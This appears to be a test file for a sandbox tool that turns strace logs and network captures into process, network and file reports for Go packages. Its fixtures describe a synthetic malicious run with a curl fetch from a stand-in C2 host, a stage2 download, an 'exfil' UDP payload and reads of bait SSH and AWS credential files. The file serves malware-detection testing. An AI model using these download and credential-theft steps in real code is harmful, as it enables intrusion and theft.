import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { Value } from '@sinclair/typebox/value';
import { Phase } from '../src/result/schema.js';
import { assemblePhase, buildFailedPhase } from '../src/dynamic/assemble-phase.js';
const root = fileURLToPath(new URL('../../', import.meta.url));
const fixture = (name) => readFileSync(`${root}test/fixtures/strace/${name}`, 'utf8');
function raw(straceLog, startedAtMs, sinkEvents = []) {
    return { status: 'completed', exitCode: 0, startedAtMs, durationMs: 1234, stdout: 'out', stderr: 'err', outputTruncated: false, straceLog, sinkEvents };
}
test('benign Go harness: only the harness process, no connections, no files, no noise in the timeline', () => {
    const phase = assemblePhase('import', raw(fixture('go-benign-harness-ttt.log'), 1795574274777));
    assert.ok(Value.Check(Phase, phase), JSON.stringify([...Value.Errors(Phase, phase)].slice(0, 3)));
    assert.deepEqual(phase.processes, [{ pid: 7326, ppid: 0, argv: ['/opt/harness/harness'], path: '/opt/harness/harness', ts: 0.000799, exitCode: 0 }]);
    assert.deepEqual(phase.network, { dns: [], connections: [] });
    assert.deepEqual(phase.files, []);
    assert.deepEqual(phase.timeline.map((t) => t.kind), ['exec', 'exit']);
});
test('malicious-shaped trace + sink events: argv, parentage, merged connection, DNS name, baits, writes', () => {
    const start = 1764037200000;
    const sink = [
        { ts: 1764037200.005, kind: 'dns', proto: 'udp', name: 'c2.evil-example.test', qtype: 'A', answer: '203.0.113.7' },
        {
            ts: 1764037200.0105,
            kind: 'tcp',
            dst: { ip: '203.0.113.7', port: 8080 },
            firstBytes: Buffer.from('GET /stage2 HTTP/1.1\r\nHost: c2.evil-example.test:8080\r\n\r\n').toString('base64'),
            http: { method: 'GET', host: 'c2.evil-example.test:8080', path: '/stage2', headers: { 'User-Agent': 'Go-http-client/1.1' }, bodyPrefix: '', tls: false },
        },
        { ts: 1764037200.05, kind: 'tcp', dst: { ip: '198.51.100.20', port: 443 }, sni: 'cdn.example.test' },
    ];
    const phase = assemblePhase('import', raw(fixture('synthetic-malicious-ttt.log'), start, sink), { notes: ['built 3 packages'] });
    assert.ok(Value.Check(Phase, phase), JSON.stringify([...Value.Errors(Phase, phase)].slice(0, 3)));
    assert.deepEqual(phase.processes.map((p) => [p.pid, p.ppid, p.argv.join(' '), p.exitCode]), [
        [100, 0, '/opt/harness/harness', undefined],
        [102, 100, '/bin/sh -c id', 0],
        [103, 102, 'id', 0],
        [104, 102, 'curl -s http://c2.evil-example.test/x', 127],
    ]);
    assert.equal(phase.processes[1].ts, 0.021);
    assert.deepEqual(phase.network.dns, [{ name: 'c2.evil-example.test', type: 'A', proto: 'udp', answer: '203.0.113.7', ts: 0.005 }]);
    const conns = phase.network.connections;
    const c2 = conns.find((c) => c.dst.ip === '203.0.113.7');
    assert.equal(c2.pid, 100);
    assert.equal(c2.host, 'c2.evil-example.test');
    assert.equal(c2.http?.path, '/stage2');
    assert.match(c2.firstBytesText ?? '', /^GET \/stage2 HTTP\/1\.1\\r\\nHost/);
    // Resolver traffic (10.99.0.53:53) and the nscd probe are gone; docker.sock stays.
    assert.equal(conns.some((c) => c.dst.ip === '10.99.0.53'), false);
    assert.equal(conns.some((c) => c.dst.ip === '/var/run/nscd/socket'), false);
    assert.ok(conns.some((c) => c.proto === 'unix' && c.dst.ip === '/var/run/docker.sock'));
    assert.ok(conns.some((c) => c.family === 'ipv6' && c.dst.ip === '2001:db8::1' && c.dst.port === 443));
    const udp = conns.find((c) => c.dst.ip === '198.51.100.9');
    assert.equal(udp.proto, 'udp');
    assert.equal(Buffer.from(udp.firstBytes, 'base64').toString('latin1'), '\x01\x02exfil\\data"q');
    // A connection only the sink saw is kept, named by SNI.
    const sniOnly = conns.find((c) => c.dst.ip === '198.51.100.20');
    assert.equal(sniOnly.pid, undefined);
    assert.equal(sniOnly.host, 'cdn.example.test');
    assert.deepEqual(phase.files.map((f) => `${f.op} ${f.path}${f.bait ? ' bait' : ''}`), [
        'read /home/dev/.ssh/id_rsa bait',
        'read /home/dev/.aws/credentials bait',
        'write /tmp/.x/stage2',
        'write /tmp/.x/stage3',
        'chmod /tmp/.x/stage2',
        'rename /tmp/.x/stage2',
        'delete /tmp/.x/stage3',
    ]);
    const summaries = phase.timeline.map((t) => t.summary);
    assert.equal(summaries[0], 'built 3 packages');
    assert.ok(summaries.includes('exec /bin/sh -c id'));
    assert.ok(summaries.some((s) => /^exec curl .*\[truncated\] \(failed: ENOENT\)$/.test(s)));
    assert.ok(summaries.includes('connect tcp 203.0.113.7:8080 (c2.evil-example.test)'));
    assert.ok(summaries.includes('GET http://c2.evil-example.test:8080/stage2'));
    assert.ok(summaries.some((s) => /raw socket AF_PACKET SOCK_RAW refused \(EPERM\)/.test(s)));
    assert.ok(summaries.some((s) => /1 of 43 lines not parsed/.test(s)));
    assert.ok(summaries.some((s) => /garbage/.test(s)));
    assert.ok(!summaries.some((s) => /SIGURG|SIGCHLD/.test(s)));
    for (let i = 1; i < phase.timeline.length; i++)
        assert.ok(phase.timeline[i - 1].ts <= phase.timeline[i].ts);
});
test('-tt clock times line up with the phase start even in another time zone', () => {
    // go-exec-net-files.log starts at 02:28:03.738188 (container local time).
    const utcStart = Date.UTC(2026, 10, 25, 2, 28, 3, 738);
    const a = assemblePhase('import', raw(fixture('go-exec-net-files.log'), utcStart));
    const sh = a.processes.find((p) => p.path === '/bin/sh');
    assert.equal(sh.ts, 0.030697);
    // Same log, container two hours ahead of UTC.
    const b = assemblePhase('import', raw(fixture('go-exec-net-files.log'), utcStart - 2 * 3600 * 1000));
    assert.equal(b.processes.find((p) => p.path === '/bin/sh').ts, 0.030697);
    // Failed exec shows with its exit code; loopback connects of the program itself are kept.
    assert.equal(a.processes.find((p) => p.path === '/nonexistent/binary')?.exitCode, 253);
    assert.ok(a.network.connections.some((c) => c.dst.ip === '127.0.0.1' && c.dst.port === 1));
});
test('build-failed phase keeps the compiler output', () => {
    const p = buildFailedPhase('import', '# example.test/bad\n./bad.go:3:1: syntax error', 900);
    assert.equal(p.status, 'build-failed');
    assert.match(p.stderrTail, /syntax error/);
    assert.ok(Value.Check(Phase, p));
});
test('real sandbox run without clone in the trace set: parentage and threads inferred, resolver and RFC 6724 probes filtered', () => {
    const sink = JSON.parse(fixture('sandbox-go-init-noclone.sink.json'));
    const start = Math.floor(sink[0].ts * 1000) - 100;
    const phase = assemblePhase('import', raw(fixture('sandbox-go-init-noclone.log'), start, sink));
    assert.ok(Value.Check(Phase, phase));
    const [harness, sh, id] = phase.processes;
    assert.deepEqual(harness.argv, ['/opt/harness/harness']);
    assert.deepEqual([sh.argv, sh.ppid], [['/bin/sh', '-c', 'id'], harness.pid]);
    assert.deepEqual([id.argv, id.ppid, id.path], [['id'], sh.pid, '/usr/bin/id']);
    assert.equal(phase.processes.length, 3);
    assert.deepEqual(phase.network.connections.map((c) => [c.proto, c.dst.ip, c.dst.port, c.pid, c.firstBytesText]), [['tcp', '203.0.113.7', 8080, harness.pid, 'hello c2']]);
    assert.deepEqual(phase.network.dns.map((d) => `${d.type} ${d.name}`).sort(), ['A c2.evil-example.test', 'AAAA c2.evil-example.test']);
    assert.deepEqual(phase.files.map((f) => [f.op, f.path, f.pid, f.bait === true]), [
        ['read', '/home/dev/.ssh/id_rsa', harness.pid, true],
        ['write', '/tmp/dropped', harness.pid, false],
    ]);
});
//# sourceMappingURL=strace-assemble.test.js.map